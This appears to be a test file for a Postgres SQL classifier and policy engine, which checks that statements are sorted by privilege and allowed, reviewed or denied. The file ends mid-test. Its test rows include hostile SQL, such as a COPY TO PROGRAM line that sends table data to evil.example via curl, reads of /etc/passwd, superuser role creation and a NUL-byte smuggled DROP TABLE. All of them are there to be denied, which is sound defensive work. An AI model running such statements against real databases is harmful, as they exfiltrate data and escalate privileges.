import assert from 'node:assert/strict';
import { before, describe, test } from 'node:test';
import { parseConfig } from '../../../src/config/load.js';
import type { Verdict } from '../../../src/core/decision.js';
import type { OperationKind, RiskTag } from '../../../src/core/operation.js';
import { PolicyEngine } from '../../../src/policy/engine.js';
import {
  mayOverlapInTransaction,
  mayOverlapRecord,
  onlyOpensTransaction,
} from '../../../src/protocols/postgres/relay/record-gate.js';
import {
  type ClassifiedStatement,
  classifierCounts,
  classifySql,
  classifyUncached,
  KIND_RANK,
  loadSqlClassifier,
  mostPrivileged,
  toOperation,
} from '../../../src/protocols/postgres/sql/classify.js';

// The quickstart `vectors` policy, read through the real config loader.
const QUICKSTART = `
identity:
  devIssuer: { enabled: true }
resources:
  - name: vectors
    protocol: postgres
    target: { host: 127.0.0.1, database: app, user: app }
    policy:
      - groups: [rag-readers]
        allow: [read]
      - groups: [indexers]
        allow: [read, write]
        review: [ddl, delete-without-where, update-without-where, truncate, drop]
        deny: [admin]
`;
const engine = new PolicyEngine(parseConfig(QUICKSTART, '/quickstart/gatehouse.yaml', {}).config.resources);

function decide(sql: string, group: string, statements = classifySql(sql)): Verdict {
  return engine.decide(toOperation('vectors', statements, sql), { identity: { groups: [group] } }).verdict;
}

/** sql, kind, tags, verdict for rag-readers, verdict for indexers. */
type Row = readonly [string, OperationKind, readonly RiskTag[], Verdict, Verdict];

const ROWS: readonly Row[] = [
  // Reads, including text that only looks dangerous.
  ['SELECT 1', 'read', [], 'allow', 'allow'],
  ['select * from Documents where ID = 1', 'read', [], 'allow', 'allow'],
  ['SeLeCt CoUnT(*) FrOm documents', 'read', [], 'allow', 'allow'],
  ["SELECT 'DROP TABLE x'", 'read', [], 'allow', 'allow'],
  ["SELECT 'x'; -- DROP TABLE documents", 'read', [], 'allow', 'allow'],
  ['SELECT "delete" FROM t', 'read', [], 'allow', 'allow'],
  ['SELECT "pg_read_file" FROM t', 'read', [], 'allow', 'allow'],
  ['SELECT $$DELETE FROM t$$ AS s', 'read', [], 'allow', 'allow'],
  ['SELECT $tag$ ; DROP TABLE t; $tag$', 'read', [], 'allow', 'allow'],
  ['/* DROP TABLE x; */ SELECT 1 -- ; DELETE FROM t', 'read', [], 'allow', 'allow'],
  ["VALUES (1, 'a'), (2, 'b')", 'read', [], 'allow', 'allow'],
  ['TABLE documents', 'read', [], 'allow', 'allow'],
  ["SELECT id FROM documents ORDER BY embedding <-> '[1,2,3]' LIMIT 5", 'read', [], 'allow', 'allow'],
  [
    'SELECT id, 1 - (embedding <=> $1) AS score FROM documents ORDER BY embedding <=> $1 LIMIT 10',
    'read',
    [],
    'allow',
    'allow',
  ],
  [
    "WITH recent AS (SELECT * FROM documents WHERE created > now() - interval '1 day') SELECT count(*) FROM recent",
    'read',
    [],
    'allow',
    'allow',
  ],
  ['SELECT * FROM a WHERE id IN (SELECT id FROM b) UNION SELECT id FROM c', 'read', [], 'allow', 'allow'],
  ['EXPLAIN SELECT * FROM documents', 'read', [], 'allow', 'allow'],
  // Plain EXPLAIN only plans the DELETE.
  ['EXPLAIN DELETE FROM documents', 'read', [], 'allow', 'allow'],
  ['EXPLAIN (ANALYZE false) DELETE FROM documents', 'read', [], 'allow', 'allow'],
  ['COPY documents TO STDOUT WITH (FORMAT csv)', 'read', [], 'allow', 'allow'],
  ['COPY (SELECT id FROM documents) TO STDOUT', 'read', [], 'allow', 'allow'],
  ['DECLARE c CURSOR FOR SELECT * FROM documents', 'read', [], 'allow', 'allow'],

  // Session and transaction control.
  ['SHOW search_path', 'session', [], 'allow', 'allow'],
  ['BEGIN', 'session', [], 'allow', 'allow'],
  ['START TRANSACTION ISOLATION LEVEL SERIALIZABLE, READ ONLY', 'session', [], 'allow', 'allow'],
  ['COMMIT', 'session', [], 'allow', 'allow'],
  ['rollback', 'session', [], 'allow', 'allow'],
  ['SAVEPOINT s1', 'session', [], 'allow', 'allow'],
  ['RELEASE SAVEPOINT s1', 'session', [], 'allow', 'allow'],
  ['ROLLBACK TO SAVEPOINT s1', 'session', [], 'allow', 'allow'],
  // search_path decides which function or table a name resolves to: not a harmless setting.
  ['SET search_path TO public', 'admin', [], 'deny', 'deny'],
  ["SET LOCAL statement_timeout = '5s'", 'session', [], 'allow', 'allow'],
  ['RESET search_path', 'session', [], 'allow', 'allow'],
  ['SET default_transaction_read_only = on', 'session', [], 'allow', 'allow'],
  ['SET TRANSACTION READ ONLY', 'session', [], 'allow', 'allow'],
  ['DISCARD PLANS', 'session', [], 'allow', 'allow'],
  ['DEALLOCATE p1', 'session', [], 'allow', 'allow'],
  ['LISTEN events', 'session', [], 'allow', 'allow'],
  ['UNLISTEN *', 'session', [], 'allow', 'allow'],
  ['FETCH 10 FROM c', 'session', [], 'allow', 'allow'],
  ['MOVE NEXT IN c', 'session', [], 'allow', 'allow'],
  ['CLOSE c', 'session', [], 'allow', 'allow'],

  // Leaving the read-only session is a write.
  ['SET default_transaction_read_only = off', 'write', [], 'deny', 'allow'],
  ['SET default_transaction_read_only TO DEFAULT', 'write', [], 'deny', 'allow'],
  ['RESET default_transaction_read_only', 'write', [], 'deny', 'allow'],
  ["SET transaction_read_only = 'false'", 'write', [], 'deny', 'allow'],
  ['SET SESSION CHARACTERISTICS AS TRANSACTION READ WRITE', 'write', [], 'deny', 'allow'],
  ['BEGIN READ WRITE', 'write', [], 'deny', 'allow'],
  ['START TRANSACTION READ WRITE', 'write', [], 'deny', 'allow'],
  ['SET TRANSACTION READ WRITE', 'write', [], 'deny', 'allow'],
  ['RESET ALL', 'write', [], 'deny', 'allow'],
  ['DISCARD ALL', 'write', [], 'deny', 'allow'],
  ["SELECT set_config('default_transaction_read_only', 'off', false)", 'write', [], 'deny', 'allow'],

  // Writes.
  ["INSERT INTO documents (id, embedding) VALUES (1, '[1,2,3]')", 'write', [], 'deny', 'allow'],
  ["UPDATE documents SET title = 'x' WHERE id = 1", 'write', [], 'deny', 'allow'],
  ["UPDATE documents SET title = 'x'", 'write', ['update-without-where'], 'deny', 'review'],
  ['DELETE FROM documents WHERE id = 1', 'write', [], 'deny', 'allow'],
  ['delete from documents', 'write', ['delete-without-where'], 'deny', 'review'],
  ['DELETE FROM documents WHERE CURRENT OF c', 'write', [], 'deny', 'allow'],
  ['UPDATE documents SET n = n + 1 WHERE CURRENT OF c', 'write', [], 'deny', 'allow'],
  // A MERGE's UPDATE or DELETE is as unbounded as its join: reviewed like UPDATE or DELETE without WHERE.
  [
    'MERGE INTO t USING s ON t.id = s.id WHEN MATCHED THEN UPDATE SET v = s.v',
    'write',
    ['merge', 'update-without-where'],
    'deny',
    'review',
  ],
  ['INSERT INTO t SELECT * FROM s ON CONFLICT (id) DO UPDATE SET v = excluded.v', 'write', [], 'deny', 'allow'],
  ['COPY documents FROM STDIN', 'write', [], 'deny', 'allow'],
  ["NOTIFY events, 'x'", 'write', ['notify'], 'deny', 'allow'],
  ['LOCK TABLE documents IN ACCESS EXCLUSIVE MODE', 'write', [], 'deny', 'allow'],
  ['SELECT * FROM documents WHERE id = 1 FOR UPDATE', 'write', ['select-for-update'], 'deny', 'allow'],
  ['SELECT * FROM a WHERE id IN (SELECT id FROM b FOR SHARE)', 'write', ['select-for-update'], 'deny', 'allow'],
  ['DECLARE c CURSOR FOR SELECT * FROM documents FOR UPDATE', 'write', ['select-for-update'], 'deny', 'allow'],
  [
    'WITH d AS (DELETE FROM t WHERE id = 1 RETURNING *) SELECT * FROM d',
    'write',
    ['data-modifying-cte'],
    'deny',
    'allow',
  ],
  [
    'WITH u AS (UPDATE t SET v = 1 RETURNING *) INSERT INTO log SELECT * FROM u',
    'write',
    ['update-without-where', 'data-modifying-cte'],
    'deny',
    'review',
  ],
  [
    'SELECT * FROM (SELECT 1) s WHERE EXISTS (WITH x AS (INSERT INTO t VALUES (1) RETURNING 1) SELECT 1)',
    'write',
    ['data-modifying-cte'],
    'deny',
    'allow',
  ],
  ['COPY (DELETE FROM t WHERE id = 1 RETURNING *) TO STDOUT', 'write', [], 'deny', 'allow'],
  ['EXPLAIN ANALYZE DELETE FROM documents', 'write', ['delete-without-where'], 'deny', 'review'],
  ['EXPLAIN (ANALYZE, BUFFERS) UPDATE t SET v = 1 WHERE id = 2', 'write', [], 'deny', 'allow'],
  ['PREPARE del(int) AS DELETE FROM documents WHERE id = $1', 'write', [], 'deny', 'allow'],
  ['CALL refresh_embeddings(42)', 'write', ['unknown-function'], 'deny', 'allow'],

  // Schema changes.
  ['CREATE TABLE t (id int primary key, embedding vector(3))', 'ddl', [], 'deny', 'review'],
  ['CREATE INDEX ON documents USING hnsw (embedding vector_cosine_ops)', 'ddl', [], 'deny', 'review'],
  ['ALTER TABLE documents ADD COLUMN title text', 'ddl', [], 'deny', 'review'],
  ['DROP TABLE documents', 'ddl', ['drop'], 'deny', 'review'],
  ['drop index if exists idx_embedding', 'ddl', ['drop'], 'deny', 'review'],
  ['TRUNCATE documents', 'ddl', ['truncate'], 'deny', 'review'],
  ['SELECT * INTO backup FROM documents', 'ddl', ['select-into'], 'deny', 'review'],
  ['CREATE TABLE backup AS SELECT * FROM documents', 'ddl', ['select-into'], 'deny', 'review'],
  ['CREATE VIEW v AS SELECT id FROM documents', 'ddl', [], 'deny', 'review'],
  ['CREATE MATERIALIZED VIEW mv AS SELECT 1', 'ddl', [], 'deny', 'review'],
  ['REFRESH MATERIALIZED VIEW mv', 'ddl', [], 'deny', 'review'],
  ["COMMENT ON TABLE documents IS 'DROP me'", 'ddl', [], 'deny', 'review'],
  ['CREATE SCHEMA rag', 'ddl', [], 'deny', 'review'],
  ["CREATE FUNCTION add(a int, b int) RETURNS int LANGUAGE sql AS 'SELECT a + b'", 'ddl', [], 'deny', 'review'],
  [
    "CREATE FUNCTION total(n int) RETURNS int LANGUAGE plpgsql AS $$ DECLARE r int := 0; BEGIN FOR i IN 1..n LOOP r := r + i; END LOOP; RAISE NOTICE '%', r; RETURN r; END $$",
    'ddl',
    [],
    'deny',
    'review',
  ],
  [
    "CREATE FUNCTION wipe(t text) RETURNS void LANGUAGE plpgsql AS $$ BEGIN EXECUTE 'DROP TABLE ' || quote_ident(t); END $$",
    'ddl',
    ['dynamic-sql'],
    'deny',
    'deny',
  ],
  [
    "CREATE FUNCTION f() RETURNS int LANGUAGE sql SECURITY DEFINER AS 'SELECT 1'",
    'ddl',
    ['privilege-change'],
    'deny',
    'deny',
  ],
  ['ALTER TABLE documents OWNER TO mallory', 'ddl', ['privilege-change'], 'deny', 'deny'],
  ['ALTER TABLE documents DISABLE ROW LEVEL SECURITY', 'ddl', ['privilege-change'], 'deny', 'deny'],
  [
    "CREATE SERVER remote FOREIGN DATA WRAPPER postgres_fdw OPTIONS (host 'x')",
    'ddl',
    ['remote-access'],
    'deny',
    'deny',
  ],
  ["CREATE USER MAPPING FOR CURRENT_USER SERVER remote OPTIONS (user 'x')", 'ddl', ['remote-access'], 'deny', 'deny'],

  // Administration.
  ['GRANT SELECT ON documents TO public', 'admin', ['privilege-change'], 'deny', 'deny'],
  ['REVOKE ALL ON documents FROM bob', 'admin', ['privilege-change'], 'deny', 'deny'],
  ['GRANT pg_read_server_files TO bob', 'admin', ['privilege-change'], 'deny', 'deny'],
  ['CREATE ROLE eve LOGIN SUPERUSER', 'admin', ['privilege-change'], 'deny', 'deny'],
  ["ALTER USER eve WITH PASSWORD 'x'", 'admin', ['privilege-change'], 'deny', 'deny'],
  ['DROP ROLE eve', 'admin', ['drop', 'privilege-change'], 'deny', 'deny'],
  ['ALTER DEFAULT PRIVILEGES GRANT SELECT ON TABLES TO public', 'admin', ['privilege-change'], 'deny', 'deny'],
  ["ALTER SYSTEM SET work_mem = '1GB'", 'admin', [], 'deny', 'deny'],
  ['CREATE EXTENSION vector', 'admin', [], 'deny', 'deny'],
  ['CREATE EXTENSION IF NOT EXISTS dblink', 'admin', ['remote-access'], 'deny', 'deny'],
  ['VACUUM ANALYZE documents', 'admin', [], 'deny', 'deny'],
  ['ANALYZE documents', 'admin', [], 'deny', 'deny'],
  ['CLUSTER documents USING idx', 'admin', [], 'deny', 'deny'],
  ['REINDEX TABLE documents', 'admin', [], 'deny', 'deny'],
  ['CHECKPOINT', 'admin', [], 'deny', 'deny'],
  ["LOAD 'auto_explain'", 'admin', [], 'deny', 'deny'],
  ['CREATE DATABASE other', 'admin', [], 'deny', 'deny'],
  ['ALTER DATABASE app SET search_path = x', 'admin', [], 'deny', 'deny'],
  ['DROP DATABASE app', 'admin', ['drop'], 'deny', 'deny'],
  ["COMMIT PREPARED 'tx1'", 'admin', [], 'deny', 'deny'],
  ['SET ROLE postgres', 'admin', ['role-change'], 'deny', 'deny'],
  ['set local role postgres', 'admin', ['role-change'], 'deny', 'deny'],
  ['SET SESSION AUTHORIZATION postgres', 'admin', ['role-change'], 'deny', 'deny'],
  ['RESET ROLE', 'admin', ['role-change'], 'deny', 'deny'],
  ['SET session_replication_role = replica', 'admin', ['role-change'], 'deny', 'deny'],
  ["SELECT set_config('role', 'postgres', false)", 'admin', ['role-change'], 'deny', 'deny'],
  ["SELECT pg_catalog.SET_CONFIG('Session_Authorization', 'x', true)", 'admin', ['role-change'], 'deny', 'deny'],
  ["SELECT set_config(name, 'x', false) FROM settings", 'admin', ['role-change'], 'deny', 'deny'],
  ['SELECT pg_terminate_backend(123)', 'admin', ['superuser-function'], 'deny', 'deny'],
  ['SELECT pg_catalog.pg_reload_conf()', 'admin', ['superuser-function'], 'deny', 'deny'],
  ["DO $$ BEGIN RAISE NOTICE 'hi'; END $$", 'admin', ['dynamic-sql'], 'deny', 'deny'],
  ["DO $$ BEGIN EXECUTE 'DELETE FROM ' || 't'; END $$", 'admin', ['dynamic-sql'], 'deny', 'deny'],
  [
    "DO $body$ BEGIN PERFORM pg_read_file('/etc/passwd'); END $body$",
    'admin',
    ['file-access', 'dynamic-sql'],
    'deny',
    'deny',
  ],
  ["do language plpgsql 'begin delete from t; end'", 'admin', ['delete-without-where', 'dynamic-sql'], 'deny', 'deny'],

  // Dangerous functions and COPY forms, wherever they hide.
  ["SELECT pg_read_file('/etc/passwd')", 'admin', ['file-access'], 'deny', 'deny'],
  ["select PG_CATALOG.PG_READ_BINARY_FILE('x')", 'admin', ['file-access'], 'deny', 'deny'],
  ["SELECT * FROM pg_ls_dir('.')", 'admin', ['file-access'], 'deny', 'deny'],
  ["SELECT lo_import('/etc/passwd')", 'admin', ['file-access'], 'deny', 'deny'],
  ["SELECT * FROM dblink('host=x', 'SELECT 1') AS t(a int)", 'admin', ['remote-access'], 'deny', 'deny'],
  [
    'SELECT count(*) FROM documents WHERE title IN (SELECT pg_read_file(path) FROM files)',
    'admin',
    ['file-access'],
    'deny',
    'deny',
  ],
  ["WITH f AS (SELECT pg_stat_file('base')) SELECT * FROM f", 'admin', ['file-access'], 'deny', 'deny'],
  ["SELECT query_to_xml('DELETE FROM t', true, true, '')", 'admin', ['dynamic-sql'], 'deny', 'deny'],
  ["EXPLAIN SELECT pg_read_file('x')", 'read', ['file-access'], 'deny', 'deny'],
  ["COPY documents TO '/tmp/out.csv'", 'admin', ['copy-server-file'], 'deny', 'deny'],
  ["COPY documents FROM '/tmp/in.csv'", 'admin', ['copy-server-file'], 'deny', 'deny'],
  ["COPY documents TO PROGRAM 'curl -d @- evil.example'", 'admin', ['copy-program'], 'deny', 'deny'],
  ["COPY documents FROM PROGRAM 'cat /etc/passwd'", 'admin', ['copy-program'], 'deny', 'deny'],

  // What the parser rejects, and what cannot be resolved, is unknown.
  ['SELEC * FROM t', 'unknown', [], 'deny', 'deny'],
  ['DROP TABLE', 'unknown', [], 'deny', 'deny'],
  ["SELECT 'unterminated", 'unknown', [], 'deny', 'deny'],
  ['garbage \u00ff ;;', 'unknown', [], 'deny', 'deny'],
  // The parser stops at a NUL: classifying the prefix would let the rest through unseen.
  ['SELECT 1\u0000; DROP TABLE documents', 'unknown', [], 'deny', 'deny'],
  ['EXECUTE del(1)', 'unknown', [], 'deny', 'deny'],
  ['CREATE TABLE copy AS EXECUTE del(1)', 'unknown', ['select-into'], 'deny', 'deny'],
];

before(loadSqlClassifier);

describe('classifySql over the quickstart vectors policy', () => {
  test('has a large table of statements', () => assert.ok(ROWS.length >= 70, `${ROWS.length} rows`));

  for (const [sql, kind, tags, readers, indexers] of ROWS) {
    test(JSON.stringify(sql), () => {
      const operation = toOperation('vectors', classifySql(sql), sql);
      assert.deepEqual({ kind: operation.kind, tags: [...operation.tags].sort() }, { kind, tags: [...tags].sort() });
      assert.deepEqual(
        { 'rag-readers': decide(sql, 'rag-readers'), indexers: decide(sql, 'indexers') },
        { 'rag-readers': readers, indexers },
      );
    });
  }
});

describe('cutting a message into statements', () => {
  test('one entry per statement, each with its own text, comments and non-ASCII included', () => {
    const sql = "SELECT 'é' AS a;  /* note */ DELETE FROM t WHERE id = 1 -- done\n; COMMIT";
    const statements = classifySql(sql);
    assert.deepEqual(
      statements.map((s) => [s.action, s.text]),
      [
        ['SELECT', "SELECT 'é' AS a"],
        ['DELETE', 'DELETE FROM t WHERE id = 1 -- done'],
        ['COMMIT', 'COMMIT'],
      ],
    );
  });

  test('an empty query or one of only comments has no statements', () => {
    assert.deepEqual(classifySql(''), []);
    assert.deepEqual(classifySql('  -- nothing here\n'), []);
  });

  test('text the parser rejects is exactly one unknown entry carrying the error', () => {
    const statements = classifySql('SELECT 1; SELEC 2; DROP TABLE t');
    assert.equal(statements.length, 1);
    const [only] = statements;
    assert.equal(only?.kind, 'unknown');
    assert.match(only?.error ?? '', /syntax error/);
  });
});

describe('function calls and plain reads, which decide whether a read may overlap its audit record', () => {
  test('a statement calling any function at any depth says so; one calling none does not', () => {
    const calls = (sql: string) => classifySql(sql).map((s) => s.callsFunctions === true);
    assert.deepEqual(calls('SELECT abalance FROM pgbench_accounts WHERE aid = 42'), [false]);
    assert.deepEqual(calls('SELECT a, b FROM t WHERE a IN (SELECT x FROM u) ORDER BY b LIMIT 5'), [false]);
    assert.deepEqual(calls('SELECT count(*) FROM t'), [true]);
    assert.deepEqual(calls("SELECT nextval('s')"), [true]);
    assert.deepEqual(calls('SELECT a FROM t WHERE b IN (SELECT my_schema.f(x) FROM u)'), [true]);
    assert.deepEqual(calls('WITH c AS (SELECT lower(name) AS n FROM t) SELECT n FROM c'), [true]);
  });

  test('only plain SELECTs may run while their record is written', () => {
    const overlaps = (sql: string) => mayOverlapRecord(classifySql(sql));
    assert.equal(overlaps('SELECT abalance FROM pgbench_accounts WHERE aid = 42'), true);
    assert.equal(overlaps('SELECT a FROM t; SELECT b FROM u'), true);
    assert.equal(overlaps('SELECT count(*) FROM t'), false, 'a function call');
    assert.equal(overlaps('SELECT a FROM t FOR UPDATE'), false, 'takes row locks');
    assert.equal(overlaps('WITH d AS (DELETE FROM t RETURNING a) SELECT a FROM d'), false, 'writes');
    assert.equal(overlaps('SELECT a FROM t; DELETE FROM t WHERE a = 1'), false, 'one part writes');
    assert.equal(overlaps('EXPLAIN ANALYZE SELECT a FROM t'), false);
    assert.equal(overlaps('EXECUTE plan_1'), false);
    assert.equal(overlaps(''), false);
  });

  test('inside a transaction block, plain DML may run while its record is written too', () => {
    const overlaps = (sql: string) => mayOverlapInTransaction(classifySql(sql));
    assert.equal(overlaps('UPDATE pgbench_accounts SET abalance = abalance + 5 WHERE aid = 42'), true);
    assert.equal(overlaps('INSERT INTO h (tid, delta, mtime) VALUES (1, 5, CURRENT_TIMESTAMP)'), true);
    assert.equal(overlaps('DELETE FROM t WHERE a = 1; SELECT b FROM u'), true);
    assert.equal(overlaps('MERGE INTO t USING u ON t.a = u.a WHEN NOT MATCHED THEN INSERT VALUES (u.a)'), false);
    assert.equal(overlaps('MERGE INTO t USING u ON t.a = u.a WHEN MATCHED THEN DELETE'), false, 'MERGE tags');
    assert.equal(overlaps('DELETE FROM t'), false, 'a risk tag (no WHERE)');
    assert.equal(overlaps('UPDATE t SET a = f(a) WHERE b = 1'), false, 'a function call');
    assert.equal(overlaps('UPDATE t SET a = 1 WHERE b = 1; COMMIT'), false, 'ends the block');
    assert.equal(overlaps('SAVEPOINT s'), false);
    assert.equal(overlaps('CREATE TABLE x (a int)'), false, 'DDL');
    assert.equal(overlaps("COPY t FROM PROGRAM 'x'"), false);
    assert.equal(overlaps('SELECT a INTO x FROM t'), false);
    assert.equal(overlaps('EXECUTE plan_1'), false);
    assert.equal(overlaps(''), false);
  });

  test('a message that only opens a transaction block may run while its record is written', () => {
    const opens = (sql: string) => onlyOpensTransaction(classifySql(sql));
    assert.equal(opens('BEGIN'), true);
    assert.equal(opens('START TRANSACTION ISOLATION LEVEL SERIALIZABLE'), true);
    assert.equal(opens('BEGIN READ ONLY'), true);
    assert.equal(opens('BEGIN READ WRITE'), false, 'may leave a read-only session');
    assert.equal(opens('BEGIN; UPDATE t SET a = 1 WHERE b = 2'), false);
    assert.equal(opens('COMMIT'), false);
    assert.equal(opens('ROLLBACK'), false);
    assert.equal(opens('SAVEPOINT s'), false);
  });
});

describe('toOperation', () => {
  test('a multi-statement message is as privileged as its most privileged part', () => {
    const sql = 'BEGIN; DELETE FROM documents WHERE id = 1; COMMIT';
    const operation = toOperation('vectors', classifySql(sql), sql);
    assert.equal(operation.protocol, 'postgres');
    assert.equal(operation.resource, 'vectors');
    assert.equal(operation.kind, 'write');
    assert.equal(operation.action, 'BEGIN; DELETE; COMMIT');
    assert.equal(operation.text, sql);
    assert.equal(operation.unclassifiable, undefined);
    assert.equal(decide(sql, 'rag-readers'), 'deny');
    assert.equal(decide(sql, 'indexers'), 'allow');
  });

  test('tags are the union of every statement’s tags', () => {
    const sql = 'SELECT 1; DROP TABLE a; TRUNCATE b; SELECT * FROM c FOR UPDATE';
    const operation = toOperation('vectors', classifySql(sql), sql);
    assert.equal(operation.kind, 'ddl');
    assert.deepEqual([...operation.tags].sort(), ['drop', 'select-for-update', 'truncate']);
    assert.equal(operation.action, 'SELECT; DROP TABLE; TRUNCATE; SELECT');
    assert.equal(decide(sql, 'indexers'), 'review');
  });

  test('a harmless read cannot smuggle admin work', () => {
    const sql = 'SELECT 1; GRANT ALL ON documents TO PUBLIC';
    assert.equal(toOperation('vectors', classifySql(sql), sql).kind, 'admin');
    assert.equal(decide(sql, 'rag-readers'), 'deny');
    assert.equal(decide(sql, 'indexers'), 'deny');
  });

  test('unknown beats every other kind, and a parse error marks the operation unclassifiable', () => {
    const parts: ClassifiedStatement[] = [
      { kind: 'admin', tags: [], action: 'VACUUM', text: 'VACUUM' },
      { kind: 'unknown', tags: [], action: 'EXECUTE', text: 'EXECUTE p', executes: 'p' },
      { kind: 'read', tags: [], action: 'SELECT', text: 'SELECT 1' },
    ];
    const operation = toOperation('vectors', parts, 'VACUUM; EXECUTE p; SELECT 1');
    assert.equal(operation.kind, 'unknown');
    assert.equal(operation.unclassifiable, undefined);

    const garbage = 'SELECT * FROM WHERE';
    const rejected = toOperation('vectors', classifySql(garbage), garbage);
    assert.equal(rejected.kind, 'unknown');
    assert.match(rejected.unclassifiable ?? '', /syntax error/);
    assert.equal(engine.decide(rejected, { identity: { groups: ['indexers'] } }).reason, 'unclassifiable');
  });

  test('an empty message is harmless session traffic', () => {
    const operation = toOperation('vectors', [], '');
    assert.equal(operation.kind, 'session');
    assert.deepEqual(operation.tags, []);
  });

  test('kind ordering: session < read < write < ddl < admin < unknown', () => {
    const order: OperationKind[] = ['session', 'read', 'write', 'ddl', 'admin', 'unknown'];
    assert.deepEqual(
      [...order].sort((a, b) => KIND_RANK[a] - KIND_RANK[b]),
      order,
    );
    assert.equal(mostPrivileged('write', 'read'), 'write');
    assert.equal(mostPrivileged('admin', 'unknown'), 'unknown');
    assert.equal(mostPrivileged('session', 'ddl'), 'ddl');
  });
});

describe('PREPARE and EXECUTE', () => {
  test('PREPARE takes its statement’s kind and tags and records the name', () => {
    const [prepared] = classifySql('PREPARE wipe AS DELETE FROM documents');
    assert.equal(prepared?.kind, 'write');
    assert.deepEqual(prepared?.tags, ['delete-without-where']);
    assert.equal(prepared?.prepares, 'wipe');
  });

  test('EXECUTE resolves through the session’s prepared statements', () => {
    const session = new Map<string, ClassifiedStatement>();
    for (const statement of classifySql('PREPARE wipe AS DELETE FROM documents; PREPARE one(int) AS SELECT $1')) {
      if (statement.prepares !== undefined) session.set(statement.prepares, statement);
    }
    const preparedStatement = (name: string) => session.get(name);

    const [wipe] = classifySql('EXECUTE wipe', { preparedStatement });
    assert.equal(wipe?.kind, 'write');
    assert.deepEqual(wipe?.tags, ['delete-without-where']);
    assert.equal(wipe?.executes, 'wipe');
    assert.equal(decide('EXECUTE wipe', 'indexers', classifySql('EXECUTE wipe', { preparedStatement })), 'review');

    const [one] = classifySql('EXECUTE one(1)', { preparedStatement });
    assert.equal(one?.kind, 'read');
    assert.equal(
      decide('EXECUTE one(1)', 'rag-readers', classifySql('EXECUTE one(1)', { preparedStatement })),
      'allow',
    );

    // Arguments are walked too: they are evaluated when the statement runs.
    const [sneaky] = classifySql("EXECUTE one(length(pg_read_file('/etc/passwd')))", { preparedStatement });
    assert.deepEqual(sneaky?.tags, ['file-access']);

    assert.equal(classifySql('EXPLAIN ANALYZE EXECUTE wipe', { preparedStatement })[0]?.kind, 'write');
    assert.equal(classifySql('EXPLAIN EXECUTE wipe', { preparedStatement })[0]?.kind, 'read');
  });

  test('an EXECUTE the session cannot resolve is unknown', () => {
    assert.equal(classifySql('EXECUTE missing')[0]?.kind, 'unknown');
    assert.equal(classifySql('EXECUTE missing', { preparedStatement: () => undefined })[0]?.kind, 'unknown');
    const broken: ClassifiedStatement = { kind: 'unknown', tags: [], action: 'UNPARSABLE', text: 'x', error: 'bad' };
    assert.equal(classifySql('EXECUTE broken', { preparedStatement: () => broken })[0]?.kind, 'unknown');
  });

  test('results that depend on the session are not cached', () => {
    const read: ClassifiedStatement = { kind: 'read', tags: [], action: 'PREPARE', text: '', prepares: 'p' };
    assert.equal(classifySql('EXECUTE p', { preparedStatement: () => read })[0]?.kind, 'read');
    assert.equal(classifySql('EXECUTE p')[0]?.kind, 'unknown');
  });

  test('DEALLOCATE and DISCARD ALL tell the session which names to forget', () => {
    assert.equal(classifySql('DEALLOCATE PREPARE wipe')[0]?.deallocates, 'wipe');
    assert.equal(classifySql('DEALLOCATE ALL')[0]?.deallocatesAll, true);
    assert.equal(classifySql('DISCARD ALL')[0]?.deallocatesAll, true);
  });
});

describe('loadSqlClassifier', () => {
  test('is idempotent', async () => {
    await loadSqlClassifier();
    await loadSqlClassifier();
    assert.equal(classifySql('SELECT 1')[0]?.kind, 'read');
  });

  test('repeated texts give equal results', () => {
    const sql = 'UPDATE documents SET title = $1';
    assert.deepEqual(classifySql(sql), classifySql(sql));
  });
});

describe('the shape cache (texts that differ only in their constants)', () => {
  // Each template's `#` is filled with different constants; every text is classified through the caches and also
  // from scratch, and the two must agree: on kind, tags, flags and the statement's own text.
  const templates: readonly (readonly string[])[] = [
    ['UPDATE pgbench_accounts SET abalance = abalance + # WHERE aid = #;', '-17', '4', '250', '99999'],
    ['SELECT abalance FROM pgbench_accounts WHERE aid = #', '1', '42', '7'],
    ['  /* lead */ INSERT INTO h (a, b) VALUES (#, now()) ; -- trailing #', "'x'", "'é;ü'", '3.5'],
    ["SELECT * FROM t WHERE name = # AND note = 'fixed;text'", "'a'", "'b;c'", "'日本'"],
    ['SELECT $1, # FROM t', '5', "'s'"],
    // Values the classifier reads: each text of these shapes is classified from scratch.
    ['SELECT set_config(#, #, false)', "'search_path'", "'role'", "'session_authorization'", "'work_mem'"],
    ['EXPLAIN (ANALYZE #) DELETE FROM t WHERE id = 1', 'true', 'false', 'on', 'off'],
    ['SET default_transaction_read_only = #', 'true', 'false', 'on'],
    ['BEGIN TRANSACTION READ ONLY, ISOLATION LEVEL SERIALIZABLE; SELECT #', '1', '2'],
    ['DO #', '$$BEGIN PERFORM 1; END$$', "$$BEGIN EXECUTE 'DROP TABLE t'; END$$", "'BEGIN DELETE FROM t; END'"],
    [
      'CREATE FUNCTION f() RETURNS int LANGUAGE sql AS #',
      "'SELECT 1'",
      "'DELETE FROM t RETURNING 1'",
      "'SELECT pg_read_file(''/etc/passwd'')::int'",
    ],
    ['COPY t TO #', "'/tmp/out'", "PROGRAM 'cat'", 'STDOUT'],
  ];
  const plain = (statements: readonly ClassifiedStatement[]) => statements.map((s) => ({ ...s }));
  const fill = (template: string, values: readonly string[], offset: number) => {
    let i = offset;
    return template.replace(/#/g, () => values[i++ % values.length] as string);
  };

  test('a text classified from its shape is classified as it would be from scratch', () => {
    const hitsBefore = classifierCounts().shape;
    for (const [template, ...values] of templates) {
      for (let offset = 0; offset < values.length * 2; offset++) {
        const sql = fill(template as string, values, offset);
        assert.deepEqual(plain(classifySql(sql)), plain(classifyUncached(sql, {})), sql);
      }
    }
    // The shapes without a value read were served from the cache (else this test would compare a thing to itself).
    const hits = classifierCounts().shape - hitsBefore;
    assert.ok(hits >= 10, `shape hits: ${hits}`);
  });

  test('a classification that read a value is not reused for another value', () => {
    classifySql("SELECT set_config('search_path', 'public', false)");
    const role = classifySql("SELECT set_config('role', 'admin', false)");
    assert.ok(role[0]?.tags.includes('role-change'));
    assert.equal(role[0]?.kind, 'admin');
    classifySql('EXPLAIN (ANALYZE false) DELETE FROM t');
    assert.equal(classifySql('EXPLAIN (ANALYZE true) DELETE FROM t')[0]?.action, 'EXPLAIN ANALYZE');
    classifySql('DO $$BEGIN PERFORM 1; END$$');
    assert.ok(classifySql("DO $$BEGIN EXECUTE 'DROP TABLE t'; END$$")[0]?.tags.includes('dynamic-sql'));
  });

  test('the statement text is cut from the message it was sent in', () => {
    classifySql('UPDATE t SET a = 1 WHERE id = 2; -- one');
    const [statement] = classifySql("UPDATE t SET a = 'é;' WHERE id = 300; -- one");
